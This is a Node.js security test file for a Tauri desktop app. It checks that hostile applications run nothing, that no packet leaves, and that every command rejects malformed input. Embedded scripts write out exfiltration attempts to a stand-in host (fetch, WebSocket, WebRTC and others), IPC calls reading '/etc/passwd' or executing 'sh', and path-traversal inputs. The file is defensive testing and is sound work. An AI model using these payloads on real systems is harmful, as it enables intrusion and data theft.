// The real window with applications that mean harm, and with every command asked for nonsense: nothing runs, no packet leaves,
// what is not permitted is denied, and the window lives on.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import { join } from 'node:path';
import { test } from 'node:test';
import { APP, call, fits, go, NAME, picture, unlock, watched } from './acts.mjs';
import { laptop, open } from './app.mjs';
import { spoil } from './hostile.mjs';
import { homeOn, world } from './world.mjs';

/** Listens on loopback for whatever a payload asks for. */
function canary() {
  let hits = 0;
  const server = http.createServer((_, answer) => {
    hits += 1;
    answer.end();
  });
  return new Promise((done) => server.listen(0, '127.0.0.1', () => {
    done({ port: server.address().port, hits: () => hits, end: () => server.close() });
  }));
}

/** How often something wanted to go where no network is: packets for which there was no route. */
function wentAstray() {
  const of = (file, name) => {
    const lines = readFileSync(`/proc/net/${file}`, 'utf8').split('\n');
    if (file === 'snmp6') return Number(lines.find((line) => line.startsWith(name)).split(/\s+/)[1]);
    const [heads, values] = lines.filter((line) => line.startsWith('Ip:')).map((line) => line.split(' '));
    return Number(values[heads.indexOf(name)]);
  };
  return of('snmp', 'OutNoRoutes') + of('snmp6', 'Ip6OutNoRoutes');
}

const astray = (address) => new Promise((done) => net.connect({ host: address, port: 80 }).on('error', done));

/** What the page holds that only a payload can have put there. */
const TRACES = `return {
  ran: window.__ran ?? 0,
  elements: [...document.querySelectorAll('script:not([src]), iframe:not([src^="isolation:"]):not([id^=__tauri]), object, embed, base, meta[http-equiv=refresh], link[rel=dns-prefetch], img:not([src^="page:"]):not([src^="blob:"]), a[href^="javascript:"], a[href^="http"], [onload], [onerror], [onfocus]')].map((one) => one.outerHTML.slice(0, 200)),
};`;

/** What a script of a payload would try, were there one; gives what came through. */
const TRIES = `const [port, done] = arguments;
const came = [];
const url = 'http://127.0.0.1:' + port + '/page';
const far = 'http://192.0.2.7/page';
const tries = [url, far].flatMap((where) => [
  () => fetch(where, { mode: 'no-cors' }).then(() => came.push('fetch ' + where)),
  () => new Promise((end) => { const image = new Image(); image.onload = () => { came.push('image ' + where); end(); }; image.onerror = end; image.src = where; }),
  () => new Promise((end) => { const socket = new WebSocket(where.replace('http', 'ws')); socket.onopen = () => { came.push('socket ' + where); end(); }; socket.onerror = end; }),
  () => { if (navigator.sendBeacon(where, 'x')) return; },
  () => new Promise((end) => { const frame = document.createElement('iframe'); frame.onload = end; frame.onerror = end; frame.src = where; document.body.append(frame); setTimeout(end, 400); }).finally(() => document.querySelectorAll('iframe[src^=http]').forEach((one) => one.remove())),
  () => { const form = document.createElement('form'); form.action = where; form.method = 'post'; document.body.append(form); form.submit(); form.remove(); },
  () => { if (window.open(where)) came.push('window ' + where); },
  () => { location.href = where; },
  () => new Worker(where),
  () => import(where).then(() => came.push('module ' + where)),
  () => { const link = document.createElement('link'); link.rel = 'dns-prefetch'; link.href = '//canary.example'; document.head.append(link); link.remove(); },
]);
tries.push(() => { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:192.0.2.7:3478' }] }); peer.createDataChannel('x'); return peer.createOffer().then((offer) => peer.setLocalDescription(offer)); });
tries.push(() => new Function('came.push("eval")')());
(async () => {
  for (const one of tries) { try { await Promise.race([one(), new Promise((end) => setTimeout(end, 800))]); } catch { /* Refused, as it should be. */ } }
  done(came);
})();`;

/** Commands that a page has no right to, and requests that go round the isolation. */
const DENIED = `const done = arguments[arguments.length - 1];
const invoke = window.__TAURI_INTERNALS__.invoke;
const names = ['plugin:fs|read_file', 'plugin:fs|read_text_file', 'plugin:shell|execute', 'plugin:shell|open', 'plugin:opener|open_url', 'plugin:http|fetch', 'plugin:webview|create_webview_window',
  'plugin:window|create', 'plugin:window|close', 'plugin:window|set_title', 'plugin:app|version', 'plugin:path|resolve_directory', 'plugin:event|emit', 'plugin:event|emit_to', 'plugin:process|exit', 'eval', 'no_such_command'];
const asked = (promise) => promise.then(() => 'answered', () => 'denied');
(async () => {
  const said = {};
  for (const name of names) said[name] = await Promise.race([asked(invoke(name, { path: '/etc/passwd', url: 'http://192.0.2.7', label: 'x', event: 'locked-event', target: { kind: 'Any' }, directory: 1, program: 'sh' })), new Promise((end) => setTimeout(() => end('silent'), 3000))]);
  // Without the isolation frame's seal nothing is heard.
  for (const name of ['standing', 'reviewer_home', 'board']) {
    const bare = fetch('ipc://localhost/' + name, { method: 'POST', headers: { 'Content-Type': 'application/json', 'Tauri-Callback': '1', 'Tauri-Error': '2', 'Tauri-Invoke-Key': 'guess' }, body: '{}' });
    said['bare ' + name] = await bare.then((answer) => (answer.ok ? 'answered' : 'denied'), () => 'denied');
  }
  done(said);
})();`;

async function clean(app, where) {
  const { ran, elements } = await app.run(TRACES);
  assert.deepEqual({ where, ran, elements }, { where, ran: 0, elements: [] });
}

/** Visits a place and waits until it shows itself. */
async function visit(app, place, ready) {
  await go(app, place);
  await app.see(ready);
  await clean(app, place);
  await fits(app, place);
}

test('h10 harmful applications run nothing and reach nobody', { timeout: 600_000 }, async (t) => {
  const listener = await canary();
  const [field, office] = [laptop('hostile-field'), laptop('hostile-office')];
  const programme = await world(office.shelf, (folder) => spoil(folder, listener.port));
  t.after(() => [programme.end, field.away, office.away, listener.end].forEach((end) => end()));
  const reader = homeOn(field.shelf);
  programme.at(reader, 'enrol', join(programme.folder, 'r01.invitation'), '--name', NAME, '--answer', programme.answer);
  programme.admit(NAME);
  programme.at(reader, 'sync');
  let app = await open(APP, field);
  let desk = null;
  await watched('hostile', () => ({ field: app, office: desk }), async () => {
    const before = process.env.TESSERA_NO_NETWORK ? wentAstray() : null;
    await unlock(app);
    await app.see('[data-step=next]');
    await call(app, 'exchange', { options: { files: 'assigned', budgetBytes: null } });
    await clean(app, 'home');
    const { tasks } = await call(app, 'reviewer_home');
    assert.ok(tasks.length > 0);
    let unreadable = 0;
    for (const { application, round } of tasks) {
      await call(app, 'declare', { application, declaration: 'none', kind: '', note: '' });
      await visit(app, `review/${application}/${round}`, 'article');
      const { files } = await call(app, 'dossier', { application, round });
      for (const { handle } of files) {
        // A file that cannot be shown is an answer in words, and the next one is shown.
        const told = await call(app, 'file_pages', { handle }).then(() => null, (error) => error.message);
        if (told !== null) {
          unreadable += 1;
          assert.match(told, /"code":"[a-z-]+"/);
        }
      }
      await app.run(`for (const summary of document.querySelectorAll('details:not([open]) > summary')) summary.click();`);
      await clean(app, 'files');
    }
    await picture(app, 'hostile-review');
    await visit(app, 'search', 'input[type=search]');
    await app.type('input[type=search]', 'script');
    await clean(app, 'search');

    desk = await open(APP, office);
    await unlock(desk);
    await desk.see('[role=grid]');
    await clean(desk, 'board');
    await picture(desk, 'hostile-board');
    const query = { text: '', stage: null, field: null, value: null, sort: 'key', descending: false, offset: 0, limit: 50 };
    const { rows } = await call(desk, 'board_page', { query });
    for (const { application } of rows) await visit(desk, `application/${application}`, 'table');
    await picture(desk, 'hostile-application');
    for (const place of ['queue', 'people', 'access', 'search', 'settings', 'exchange']) await visit(desk, place, 'h1');

    // And where a script did run after all.
    for (const window of [app, desk]) {
      assert.deepEqual(await window.runLong(TRIES, [listener.port]), []);
      const said = await window.runLong(DENIED);
      assert.deepEqual(Object.entries(said).filter(([, answer]) => answer !== 'denied'), []);
      await clean(window, 'afterwards');
      assert.ok((await call(window, 'standing')).open !== null);
    }
    assert.equal(listener.hits(), 0);
    if (before === null) t.diagnostic('this machine allows no network of its own: packets were not counted');
    else assert.equal(wentAstray(), before, 'packets that wanted to leave');
    t.diagnostic(`${tasks.length} dossiers, ${unreadable} files that could not be shown`);
  });
  // Both would have noticed.
  await fetch(`http://127.0.0.1:${listener.port}/`);
  assert.equal(listener.hits(), 1);
  if (process.env.TESSERA_NO_NETWORK) {
    const before = wentAstray();
    await astray('192.0.2.7');
    assert.ok(wentAstray() > before);
  }
});

/** Every command with the names of its arguments, as the interface is told of them. */
function commands() {
  const bindings = readFileSync(new URL('../../client/ui/src/lib/backend/bindings.ts', import.meta.url), 'utf8');
  const found = [...bindings.matchAll(/__TAURI_INVOKE<[^(]*\("([a-z_]+)"(?:, \{ ([^}]*) \})?\)/g)];
  return found.map(([, name, parts]) => ({ name, parts: (parts ?? '').split(', ').filter(Boolean).map((part) => part.split(':')[0]) }));
}

/** These close the window or the home; these open another home, and take a second for it. */
const ENDS = ['leave', 'lock'];
const OPENS = ['enrol', 'found', 'rehearse', 'unlock', 'unlock_by_words'];

/** Wrong types, sizes and ids; the last two are of the right kind, of another programme and of nobody. */
const WRONG = `[null, true, -1, 1e308, '', ' ', '\\u0000', '../../../../etc/passwd', '\\u202E', [], {}, { kind: 'x' }, { __proto__: null, constructor: 1 }, undefined, 'ffffffffffffffffffffffffffffffff', 'A001']`;

/** Asks for one command with wrong values in each place; `few`: no more than one of each kind. Gives what was no typed answer. */
const ASK = `const [name, parts, few, done] = arguments;
const wrong = ${WRONG};
const huge = ['x'.repeat(1 << 17), Array(5000).fill('x')];
const invoke = window.__TAURI_INTERNALS__.invoke;
const typed = (error) => (typeof error === 'string' ? /^invalid args|^command [a-z_]+ missing|missing required key|^invalid type/.test(error) : typeof error?.code === 'string' && typeof error?.message === 'string' && error.code !== 'bug');
const all = (value) => Object.fromEntries(parts.map((part) => [part, value]));
const first = (value) => Object.fromEntries(parts.map((part) => [part, part === parts[0] ? value : '']));
const inside = (value) => ({ ...first(''), [parts[0]]: { [parts[0]]: value } });
const given = parts.length === 0 ? [{}] : few ? ['', wrong[3], wrong.at(-2)].map(all) : [...wrong.flatMap((value) => [all(value), first(value), inside(value)]), ...huge.map(all)];
(async () => {
  const odd = [];
  for (const one of given) await invoke(name, one).catch((error) => { if (!typed(error)) odd.push(JSON.stringify(error).slice(0, 300)); });
  done(odd);
})();`;

test('h14 every command answers nonsense in words, and the home is as it was', { timeout: 900_000 }, async (t) => {
  const office = laptop('nonsense');
  const programme = await world(office.shelf);
  t.after(() => [programme.end, office.away].forEach((end) => end()));
  const all = commands();
  assert.ok(all.length > 50);
  const desk = await open(APP, office);
  await watched('nonsense', () => ({ office: desk }), async () => {
    await unlock(desk);
    await desk.see('[role=grid]');
    const before = await call(desk, 'board');
    const ask = async ({ name, parts }, few) => {
      assert.deepEqual({ name, odd: await desk.runLong(ASK, [name, parts, few]) }, { name, odd: [] });
    };
    const rest = all.filter(({ name }) => !OPENS.includes(name) && !ENDS.includes(name));
    for (const one of rest) await ask(one, false);
    assert.deepEqual(await call(desk, 'board'), before);
    await go(desk, 'people');
    await desk.see('[role=grid]');
    // Without a home every command that needs one says so; then those that open one.
    await call(desk, 'lock');
    for (const one of rest) await ask(one, true);
    for (const one of all.filter(({ name }) => OPENS.includes(name))) await ask(one, true);
    assert.ok(desk.process() !== undefined);
    t.diagnostic(`${all.length} commands`);
  });
  assert.deepEqual(programme.alice('verify').rows, []);
});
